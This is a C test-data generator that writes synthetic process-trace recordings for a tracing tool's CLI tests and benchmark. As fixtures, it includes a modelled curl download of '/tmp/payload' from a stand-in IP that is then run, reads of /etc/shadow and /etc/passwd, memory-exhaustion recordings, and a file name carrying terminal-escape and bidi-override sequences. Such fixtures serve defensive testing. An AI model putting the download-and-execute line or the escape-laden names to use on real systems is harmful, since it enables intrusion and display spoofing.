// SPDX-License-Identifier: MIT
/*
 * gen_recording: write a synthetic recording, for the CLI tests and the
 * replay benchmark, with the real segment and manifest writers.
 *
 *   gen_recording [--events N] [--frame-raw BYTES] [--state recording] [--no-manifest] [--damage] DIR
 *
 * Without --events: a small scripted session (snapshot, forks, execve
 * pairing, an exec from /tmp, hostile strings, a gap, two segments).
 * With --events N: N openat events over 4 CPUs in drain rounds, with a fork
 * and exec every 1000 events, for throughput measurements.
 * With --hostile KIND: a small recording built to exhaust a reader's memory
 * (the format's limits are what bound it):
 *   forks   a snapshot process with a 64 KiB argv, then 20000 forks of it
 *   held    4096 threads each inside an execve with a 64 KiB argv
 *   bigarg  a snapshot process with a 200 KB argv (over the format's limit)
 *   strings an exec from /tmp of a file whose name carries a terminal title
 *           escape (ESC ] 0 ; ... BEL), a C1 CSI (U+009B) and a bidi
 *           override (U+202E)
 */
#include <getopt.h>

#include "unit/replay_synth.h"

#define MS 1000000ULL

static const struct synth_task init_task = { .pid = 1, .start_ns = 10 * MS, .comm = "systemd" };
static const struct synth_task sshd = { .pid = 50, .ppid = 1, .start_ns = 900 * MS, .parent_start_ns = 10 * MS,
					.comm = "sshd" };
static const struct synth_task bash = { .pid = 100, .ppid = 50, .start_ns = 2000 * MS + 3456,
					.parent_start_ns = 900 * MS, .comm = "bash" };

static void scripted(struct synth *s)
{
	const char *const a_bash[] = { "-bash", NULL }, *const a_sshd[] = { "sshd: u [priv]", NULL };
	const char *const a_curl[] = { "curl", "-o", "/tmp/payload", "http://203.0.113.7/p", NULL };
	const char *const a_pay[] = { "./payload", "--quiet", NULL };
	const char *const a_ls[] = { "ls", "-l", NULL };
	struct synth_task curl = { .pid = 200, .ppid = 100, .start_ns = 5000 * MS + 11,
				   .parent_start_ns = bash.start_ns, .comm = "bash" };
	struct synth_task pay = { .pid = 201, .ppid = 100, .start_ns = 6000 * MS + 22,
				  .parent_start_ns = bash.start_ns, .comm = "bash" };
	struct synth_task ls = { .pid = 202, .ppid = 100, .start_ns = 7000 * MS + 33,
				 .parent_start_ns = bash.start_ns, .comm = "bash" };
	const uint8_t sin[16] = { 2, 0, 0, 80, 203, 0, 113, 7 };
	struct synth_ev e;

	/* the /proc snapshot */
	synth_proc(s, 3000 * MS, 1, 0, init_task.start_ns, "systemd", "/usr/lib/systemd/systemd", "/", NULL);
	synth_proc(s, 3000 * MS, 50, 1, sshd.start_ns, "sshd", "/usr/sbin/sshd", "/", a_sshd);
	synth_proc(s, 3000 * MS, 100, 50, bash.start_ns, "bash", "/usr/bin/bash", "/tmp", a_bash);

	/* round 1: bash forks curl, which downloads to /tmp */
	synth_fork(s, 1, 5000 * MS, &bash, 200, 200, curl.start_ns);
	synth_execve_entry(s, 2, 5001 * MS, &curl, "/usr/bin/curl", a_curl);
	synth_watermark(s, 5001 * MS + 500);
	curl.comm = "curl";
	synth_exec(s, 2, 5002 * MS, &curl, "/usr/bin/curl", a_curl, 200);
	synth_retval(s, 2, 5003 * MS, 200, TR_EV_EXECVE, 0);
	synth_ev_begin(&e, 2, 5004 * MS, TR_EV_CONNECT, &curl);
	synth_ev_u32(&e, 0, 3);
	synth_ev_bytes(&e, 1, sin, sizeof(sin));
	synth_ev_end(s, &e);
	synth_openat(s, 0, 5005 * MS, &bash, "/home/u/.bash_history", 3);
	synth_openat(s, 2, 5006 * MS, &curl, "/tmp/payload", 4);
	synth_exit(s, 2, 5100 * MS, &curl, 0, 1);
	synth_gap(s, 3, 5050 * MS, 12);
	synth_watermark(s, 5200 * MS);
	synth_flush(s);

	/* round 2, in the next segment: the payload runs from /tmp, relative
	 * to bash's cwd; CPU 1's batch is written before CPU 0's */
	synth_rotate(s);
	synth_fork(s, 1, 6000 * MS, &bash, 201, 201, pay.start_ns);
	synth_execve_entry(s, 1, 6001 * MS, &pay, "./payload", a_pay);
	pay.comm = "payload";
	synth_exec(s, 1, 6002 * MS, &pay, "./payload", a_pay, 201);
	synth_retval(s, 1, 6003 * MS, 201, TR_EV_EXECVE, 0);
	synth_openat(s, 1, 6010 * MS, &pay, "/etc/shad\xffw\\\x01", -13);
	synth_openat(s, 0, 6005 * MS, &bash, "/etc/passwd", 3);
	synth_fork(s, 0, 7000 * MS, &bash, 202, 202, ls.start_ns);
	synth_execve_entry(s, 0, 7001 * MS, &ls, "/usr/bin/nope", a_ls);
	synth_retval(s, 0, 7002 * MS, 202, TR_EV_EXECVE, -2);
	synth_execve_entry(s, 0, 7003 * MS, &ls, "/usr/bin/ls", a_ls);
	synth_watermark(s, 7003 * MS + 1);
	ls.comm = "ls";
	synth_exec(s, 0, 7004 * MS, &ls, "/usr/bin/ls", a_ls, 202);
	synth_retval(s, 0, 7005 * MS, 202, TR_EV_EXECVE, 0);
	synth_exit(s, 0, 7100 * MS, &ls, 0, 1);
	synth_watermark(s, 8000 * MS);
}

/* A snapshot process with an argv of argvlen bytes (one element). */
static void proc_big_argv(struct synth *s, uint32_t pid, uint32_t argvlen)
{
	size_t cap = sizeof(struct tr_proc) + 5 + argvlen, off = sizeof(struct tr_proc);
	uint8_t *buf = calloc(1, cap), *argv = malloc(argvlen);
	struct tr_proc *p = (struct tr_proc *)buf;

	if (!buf || !argv) {
		s->err = -ENOMEM;
		goto out;
	}
	memset(argv, 'A', argvlen);
	argv[argvlen - 1] = '\0';
	p->h.kind = TR_REC_PROC;
	p->h.cpu = TR_CPU_NONE;
	p->h.ts = 3000 * MS;
	p->host_pid = p->pid = pid;
	p->host_ppid = p->ppid = 1;
	p->start_ns = bash.start_ns / 10000000 * 10000000;
	synth_comm(p->comm, "bash");
	if (!tr_arg__put_bytes(buf, cap, &off, TR_PROC_ARG_ARGV, argv, argvlen))
		p->nargs++;
	p->h.size = (uint32_t)off;
	synth_append(s, buf);
out:
	free(buf);
	free(argv);
}

static void hostile(struct synth *s, const char *kind)
{
	static char argv[TR_ARG_BYTES_MAX];
	struct synth_task t = bash;
	struct synth_ev *e = malloc(sizeof(*e));

	if (!e) {
		s->err = -ENOMEM;
		return;
	}
	memset(argv, 'B', sizeof(argv));
	argv[sizeof(argv) - 1] = '\0';
	if (!strcmp(kind, "forks")) {
		proc_big_argv(s, bash.pid, TR_ARG_BYTES_MAX);
		for (uint32_t i = 0; i < 20000; i++) {
			synth_fork(s, 0, 4000 * MS + i, &bash, 1000 + i, 1000 + i, 4000 * MS + i);
			if (i % 1000 == 999)
				synth_watermark(s, 4000 * MS + i + 1);
		}
	} else if (!strcmp(kind, "held")) {
		proc_big_argv(s, bash.pid, 16);
		for (uint32_t i = 0; i < 4096; i++) {
			t.tid = 1000 + i;
			synth_ev_begin(e, 0, 4000 * MS + i, TR_EV_EXECVE, &t);
			e->ev.flags = TR_EVF_AT_ENTRY;
			synth_ev_str(e, 0, "/usr/bin/x");
			synth_ev_bytes(e, 1, argv, sizeof(argv));
			synth_ev_end(s, e);
			if (i % 100 == 99)
				synth_watermark(s, 4000 * MS + i + 1);
		}
	} else if (!strcmp(kind, "strings")) {
		static const char evil[] = "/tmp/\x1b]0;pwned\x07\xc2\x9b" "31m\xe2\x80\xaegpj.exe";
		const char *const a_evil[] = { evil, NULL };
		struct synth_task child = { .pid = 300, .ppid = bash.pid, .start_ns = 5000 * MS,
					    .parent_start_ns = bash.start_ns, .comm = "bash" };

		synth_proc(s, 3000 * MS, bash.pid, 1, bash.start_ns, "bash", "/usr/bin/bash", "/tmp", NULL);
		synth_fork(s, 0, 5000 * MS, &bash, 300, 300, child.start_ns);
		child.comm = "\xe2\x80\xae" "evil";
		synth_exec(s, 0, 5001 * MS, &child, evil, a_evil, 300);
	} else {
		proc_big_argv(s, bash.pid, 200000);
		synth_openat(s, 0, 4000 * MS, &bash, "/etc/hosts", 3);
	}
	synth_watermark(s, 9000 * MS);
	free(e);
}

static void bench(struct synth *s, uint64_t n)
{
	const char *const a_x[] = { "x", NULL };
	struct synth_task t = bash, child = bash;
	uint64_t ts = 3000 * MS, i = 0;
	uint32_t pid = 1000;

	synth_proc(s, ts, 1, 0, init_task.start_ns, "systemd", "/usr/lib/systemd/systemd", "/", NULL);
	synth_proc(s, ts, 100, 1, bash.start_ns, "bash", "/usr/bin/bash", "/home/u", NULL);
	while (i < n) {
		/* one drain round: each CPU's batch in turn */
		for (uint16_t cpu = 0; cpu < 4 && i < n; cpu++)
			for (int k = 0; k < 1024 && i < n; k++, i++) {
				uint64_t t_ev = ts + (uint64_t)k * 4000 + cpu;

				if (i % 1000 == 999) {
					child.pid = child.tid = pid++;
					child.ppid = 100;
					child.start_ns = t_ev;
					child.parent_start_ns = bash.start_ns;
					synth_fork(s, cpu, t_ev, &t, child.pid, child.pid, t_ev);
					synth_exec(s, cpu, t_ev + 1, &child, i % 2000 == 999 ? "/tmp/x" : "/usr/bin/x",
						   a_x, child.pid);
					synth_exit(s, cpu, t_ev + 2, &child, 0, 1);
					i += 2;
				} else {
					synth_openat(s, cpu, t_ev, &t, "/usr/lib/x86_64-linux-gnu/libc.so.6", 3);
				}
			}
		ts += 1024 * 4000;
		synth_watermark(s, ts);
	}
}

int main(int argc, char **argv)
{
	static const struct option opts[] = {
		{ "events", required_argument, NULL, 'n' },
		{ "state", required_argument, NULL, 's' },
		{ "no-manifest", no_argument, NULL, 'M' },
		{ "damage", no_argument, NULL, 'd' },
		{ "frame-raw", required_argument, NULL, 'r' },
		{ "hostile", required_argument, NULL, 'H' },
		{ 0 },
	};
	enum tr_rec_state state = TR_STATE_COMPLETE;
	int manifest = 1, damage = 0, c, err;
	uint64_t events = 0;
	long frame_raw = -1;
	const char *hostile_kind = NULL;
	struct synth s;

	while ((c = getopt_long(argc, argv, "", opts, NULL)) != -1) {
		switch (c) {
		case 'n': events = strtoull(optarg, NULL, 0); break;
		case 's': state = strcmp(optarg, "recording") ? TR_STATE_COMPLETE : TR_STATE_RECORDING; break;
		case 'M': manifest = 0; break;
		case 'd': damage = 1; break;
		case 'r': frame_raw = strtol(optarg, NULL, 0); break;
		case 'H': hostile_kind = optarg; break;
		default:
			fprintf(stderr, "usage: gen_recording [--events N] [--frame-raw BYTES] [--state recording] [--no-manifest] [--damage] DIR\n");
			return 2;
		}
	}
	if (argc - optind != 1) {
		fprintf(stderr, "gen_recording: error: one DIR expected\n");
		return 2;
	}
	/* small frames for the scripted session, so damage costs one frame */
	err = synth_open(&s, argv[optind], frame_raw >= 0 ? (uint32_t)frame_raw : events ? 0 : 512);
	if (!err) {
		if (hostile_kind)
			hostile(&s, hostile_kind);
		else if (events)
			bench(&s, events);
		else
			scripted(&s);
		err = synth_close(&s, state, manifest);
	}
	if (err) {
		fprintf(stderr, "gen_recording: error: %s: %s\n", argv[optind], strerror(-err));
		return 1;
	}
	if (damage) {
		/* flip one byte in the middle of the first segment */
		char path[PATH_MAX + 32];
		FILE *f;
		long size;
		int b;

		snprintf(path, sizeof(path), "%s/events/seg-000000.zst", argv[optind]);
		f = fopen(path, "r+b");
		if (!f || fseek(f, 0, SEEK_END) || (size = ftell(f)) < 2 || fseek(f, size / 2, SEEK_SET) ||
		    (b = fgetc(f)) == EOF || fseek(f, size / 2, SEEK_SET) || fputc(b ^ 0x55, f) == EOF ||
		    fclose(f)) {
			fprintf(stderr, "gen_recording: error: %s: cannot damage\n", path);
			return 1;
		}
	}
	return 0;
}
